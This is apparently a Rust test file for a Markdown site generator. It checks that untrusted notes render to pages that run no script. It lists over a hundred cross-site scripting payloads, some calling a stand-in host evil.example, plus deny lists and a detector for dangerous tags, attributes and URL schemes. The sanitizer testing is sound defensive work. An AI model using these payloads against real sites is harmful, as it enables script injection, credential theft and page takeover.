//! `untrusted = true`: whatever a note holds, its page runs nothing. Known vectors, each in many places of a note, taken through all phases; the page is then read by the
//! parser that a browser has (html5ever), and every element, attribute and address of the tree is looked at. Addresses that run scripts pass in neither mode.
#![allow(clippy::unwrap_used, reason = "a test may fail loudly")]

#[path = "fuzz/mutate.rs"]
#[allow(dead_code, reason = "a part is used")]
mod mutate;
mod whole;

use biji::config::Config;
use biji::diagnostic::Code;
use html5ever::tendril::TendrilSink;
use markup5ever_rcdom::{Handle, NodeData, RcDom};

/// Raw HTML that runs scripts in one browser or another, or takes the page over.
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror\t=\talert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x onerror=\"alert&#40;1)\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img title=\"--><img src=x onerror=alert(1)>\">",
    "<img alt=\"<img src=x onerror=alert(1)>\">",
    "<img src=x:x onerror=alert(1) alt='",
    "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img style=\"background:url(javascript:alert(1))\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=//evil.example>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=javascript:alert(1)//>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>x{}</style><script>alert(1)</script>",
    "<div style=\"position:fixed;inset:0;background:red\">x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<p class=search-dialog data-search-open>x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<div onpointerrawupdate=alert(1) ONCLICK=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onloadstart=alert(1) autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=//evil.example><input name=password></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript:alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href=b.md href=javascript:alert(1) HREF=javascript:alert(1)>x</a>",
    "<a ping=//evil.example href=b.md target=_blank>x</a>",
    "<area href=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<q cite=javascript:alert(1)>x</q>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)><x-y onclick=alert(1) is=x-z>x</x-y>",
    "<portal src=javascript:alert(1) onload=alert(1)>",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"//evil.example\">]>",
    "</p><script>alert(1)</script>",
    "</main></div></body><script>alert(1)</script>",
    "<b/onclick=alert(1)>x</b>",
    "<b\u{c}onclick=alert(1)>x</b>",
    "<b \u{0}onclick=alert(1)>x</b>",
    "<b =onclick=alert(1) \"onclick=alert(1)>x</b>",
    "<a name=\"x\" id='\"><script>alert(1)</script>'>x</a>",
];

/// Markdown that does without HTML.
const MARKDOWN: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](b.md \"\\\" onclick=alert(1) x=\\\"\")",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](b.png \"a\\\" onerror=\\\"alert(1)\")",
    "![x](data:text/html,x)",
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<data:text/html,x>",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "![[javascript:alert(1)]]",
    "[x][r]\n\n[r]: javascript:alert(1)\n",
    "[x]: <vbscript:x>\n\n[x]\n",
    "# x {onclick=alert(1)}",
    "# x {#a\"onclick=alert(1) .site-header style=position:fixed}",
    "::: tip x {onclick=alert(1) .site-header}\ny\n:::",
    "::: tip <script>alert(1)</script>\ny\n:::",
    "::: x\"onclick=alert(1) y\nz\n:::",
    "```\"><script>alert(1)</script> title=\"<img src=x onerror=alert(1)>\"\nx\n```",
    "> [!x\"onclick=alert(1)] <img src=x onerror=alert(1)>",
    "- [\"] <b onclick=alert(1)>x",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ $\\style{x}{y}$",
    "#x\"onclick=alert(1)",
    "x ^a\"onclick=alert(1)",
    "[^\"onclick=alert(1)] \n\n[^\"onclick=alert(1)]: <img src=x onerror=alert(1)>",
];

/// Places in a note; `{}` is what is put there.
const PLACES: &[&str] = &[
    "{}\n",
    "a {} b\n",
    "- {}\n",
    "- a\n\n  {}\n",
    "> {}\n",
    "> [!tip] {}\n> a\n",
    "::: details {}\na\n:::\n",
    "::: tip\n{}\n:::\n",
    "# {}\n",
    "| {} |\n|---|\n| {} |\n",
    "a[^1]\n\n[^1]: {}\n",
    "a^[{}]\n",
    "**{}**\n",
    "[{}](b.md)\n",
    "![{}](b.png)\n",
    "<div>\n{}\n\n{}\n</div>\n",
    "<b title=\"{}\">x</b>\n",
    "<p>{}</p>\n\n*a {}* b\n",
    "a\n: {}\n",
    "<pre>\n{}\n</pre>\n",
];

/// Elements that no note needs.
const NEVER: &[&str] = &[
    "script",
    "style",
    "object",
    "embed",
    "applet",
    "form",
    "button",
    "select",
    "textarea",
    "svg",
    "base",
    "link",
    "meta",
    "frame",
    "frameset",
    "noscript",
    "template",
    "title",
    "xmp",
    "noembed",
    "noframes",
    "plaintext",
    "dialog",
    "portal",
    "marquee",
    "keygen",
    "area",
    "map",
    "slot",
    "iframe",
];

fn nodes(handle: &Handle, found: &mut Vec<(String, Vec<(String, String)>)>) {
    // Deep trees must not need a deep stack.
    let mut open = vec![handle.clone()];
    while let Some(node) = open.pop() {
        if let NodeData::Element { name, attrs, .. } = &node.data {
            let attributes = attrs.borrow();
            let attributes = attributes.iter().map(|attribute| {
                let prefix = attribute.name.prefix.as_ref().map(|prefix| format!("{prefix}:")).unwrap_or_default();
                (format!("{prefix}{}", attribute.name.local), attribute.value.to_string())
            });
            found.push((name.local.to_string(), attributes.collect()));
        }
        open.extend(node.children.borrow().iter().cloned());
    }
}

fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let dom = html5ever::parse_document(RcDom::default(), html5ever::ParseOpts::default()).one(html);
    let mut found = Vec::new();
    nodes(&dom.document, &mut found);
    found
}

/// The scheme as a browser finds it.
fn scheme(value: &str) -> String {
    let value: String = value.chars().filter(|letter| !matches!(letter, '\t' | '\n' | '\r')).collect();
    let value = value.trim_start_matches(|letter: char| letter <= ' ');
    value.split_once(':').map(|(scheme, _)| scheme.to_ascii_lowercase()).unwrap_or_default()
}

const ADDRESSES: &[&str] = &[
    "href",
    "src",
    "srcset",
    "poster",
    "action",
    "formaction",
    "data",
    "background",
    "cite",
    "xlink:href",
    "ping",
    "values",
    "to",
    "from",
    "longdesc",
];

/// A dangerous address in the tree, if there is one.
fn address(elements: &[(String, Vec<(String, String)>)]) -> Option<String> {
    for (element, attributes) in elements {
        for (name, value) in attributes.iter().filter(|(name, _)| ADDRESSES.contains(&name.as_str())) {
            let is_list = matches!(name.as_str(), "srcset" | "values" | "ping");
            for value in std::iter::once(value.as_str()).chain(value.split([',', ' ', ';']).filter(|_| is_list)) {
                let scheme = scheme(value);
                let kind = value.trim().to_ascii_lowercase();
                let is_picture = ["data:image/png", "data:image/gif", "data:image/jpeg"].iter().any(|start| kind.starts_with(start));
                let is_image = is_picture || (element != "a" && kind.starts_with("data:image/"));
                if matches!(scheme.as_str(), "javascript" | "vbscript" | "livescript") || (scheme == "data" && !is_image) {
                    return Some(format!("<{element} {name}=\"{value}\">"));
                }
            }
        }
    }
    None
}

fn danger(html: &str) -> Option<String> {
    let elements = elements(html);
    for (element, attributes) in &elements {
        // A note cannot write `svg`, so one of a diagram's class is Biji's own; what is in it is looked at like the rest.
        let is_diagram = element == "svg" && attributes.contains(&("class".to_owned(), "diagram-drawing".to_owned()));
        if NEVER.contains(&element.as_str()) && !is_diagram {
            return Some(format!("<{element}>"));
        }
        let is_own_input = attributes.iter().any(|(name, value)| name == "type" && matches!(value.as_str(), "checkbox" | "radio"));
        if element == "input" && !is_own_input {
            return Some("<input>".into());
        }
        for (name, value) in attributes {
            let is_bad = name.starts_with("on")
                || matches!(name.as_str(), "style" | "srcdoc" | "formaction" | "ping" | "target" | "is" | "http-equiv");
            let is_imitation =
                (name == "class" && (value.contains("site-header") || value.contains("search"))) || name == "data-search-open";
            if is_bad || is_imitation {
                return Some(format!("<{element} {name}=\"{value}\">"));
            }
        }
    }
    address(&elements)
}

fn page(theme: &biji::theme::Theme, untrusted: bool, text: &str) -> (String, Vec<Code>) {
    let config = Config { untrusted, language: Some("en".into()), ..Config::default() };
    let text = format!("---\ntitle: t\n---\n{text}");
    let whole = whole::build(theme, config, &[("note.md", &text), ("b.md", "# B\n"), ("b.png", "")]);
    for fault in &whole.diagnostics {
        if let (Some(file), Some(span)) = (&fault.file, fault.span) {
            assert!(file.text.get(span.range()).is_some(), "{span:?} is no place in {text:?}");
        }
    }
    let codes = whole.diagnostics.iter().map(|fault| fault.code).collect();
    (whole.page("note.html").unwrap().to_owned(), codes)
}

#[test]
fn nothing_runs_whatever_the_note_holds() {
    let theme = whole::theme(true);
    let mut failed = Vec::new();
    for vector in HTML.iter().chain(MARKDOWN) {
        for place in PLACES {
            let text = place.replace("{}", vector);
            let (html, _) = page(&theme, true, &text);
            if let Some(danger) = danger(&html) {
                failed.push(format!("{danger}\n--- of {text:?}\n--- in {html}"));
            }
        }
    }
    assert!(failed.is_empty(), "{} failed:\n{}", failed.len(), failed[..failed.len().min(8)].join("\n\n"));
}

#[test]
fn without_it_the_vectors_are_dangerous() {
    let theme = whole::theme(true);
    let dangerous = HTML.iter().filter(|vector| danger(&page(&theme, false, vector).0).is_some()).count();
    assert!(dangerous >= 70, "only {dangerous} of {} vectors show that the check sees anything", HTML.len());
}

#[test]
fn addresses_that_run_scripts_pass_in_neither_mode() {
    let theme = whole::theme(true);
    let mut failed = Vec::new();
    for vector in HTML.iter().chain(MARKDOWN) {
        let (html, _) = page(&theme, false, vector);
        if let Some(danger) = address(&elements(&html)) {
            failed.push(format!("{danger}\n--- of {vector:?}\n--- in {html}"));
        }
    }
    assert!(failed.is_empty(), "{} failed:\n{}", failed.len(), failed.join("\n\n"));
}

#[test]
fn what_is_left_out_is_reported() {
    let theme = whole::theme(true);
    for text in
        ["<script>x</script>", "<b onclick=x>y</b>", "<p style=x>y</p>", "<iframe src=b.md></iframe>", "a <input> b", "<svg onload=x>"]
    {
        let (_, codes) = page(&theme, true, text);
        assert!(codes.contains(&Code::Untrusted), "{text}: {codes:?}");
        let (_, codes) = page(&theme, false, text);
        assert!(!codes.contains(&Code::Untrusted), "{text}: {codes:?}");
    }
}

#[test]
fn what_formats_text_stays() {
    let theme = whole::theme(true);
    for text in [
        "<b>a</b> <i>b</i> <kbd>c</kbd> <sub>d</sub> <mark>e</mark> <ruby>漢<rt>han</rt></ruby>",
        "<div align=\"center\">\n\n**a**\n\n</div>",
        "<details>\n<summary>More</summary>\n\ntext\n\n</details>",
        "<img src=\"b.png\" alt=\"a\" width=\"300\">",
        "<table><tr><td colspan=\"2\">a</td></tr></table>",
        "<a href=\"b.md\" title=\"t\">B</a> <a href=\"https://example.org\">C</a>",
    ] {
        let (strict, codes) = page(&theme, true, text);
        let (free, _) = page(&theme, false, text);
        assert_eq!(elements(&strict), elements(&free), "{text}");
        assert!(codes.is_empty(), "{text}: {codes:?}");
    }
}

/// Vectors put together and damaged; `BIJI_FUZZ` says how many, `BIJI_FUZZ_SEED` which.
#[test]
fn nothing_runs_in_damaged_notes() {
    let variable = |name: &str, default: usize| std::env::var(name).map_or(default, |value| value.parse().unwrap());
    let theme = whole::theme(true);
    let seeds: Vec<String> = HTML.iter().chain(MARKDOWN).chain(PLACES).map(|text| format!("{text}\n")).collect();
    let mut random = mutate::Random(variable("BIJI_FUZZ_SEED", 1) as u64);
    for _ in 0..variable("BIJI_FUZZ", 2_000) {
        let text = mutate::input(&mut random, &seeds);
        let (html, _) = page(&theme, true, &text);
        if let Some(danger) = danger(&html) {
            panic!("{danger}\n--- of {text:?}\n--- in {html}");
        }
        if ["<noscript", "<math", "<svg"].iter().any(|start| text.to_ascii_lowercase().contains(start)) {
            // What is text in these and what is a tag depends on the browser, and on more than a tag's name. Writers who are trusted may say both.
            continue;
        }
        let (html, _) = page(&theme, false, &text);
        if let Some(danger) = address(&elements(&html)) {
            panic!("trusted: {danger}\n--- of {text:?}\n--- in {html}");
        }
    }
}
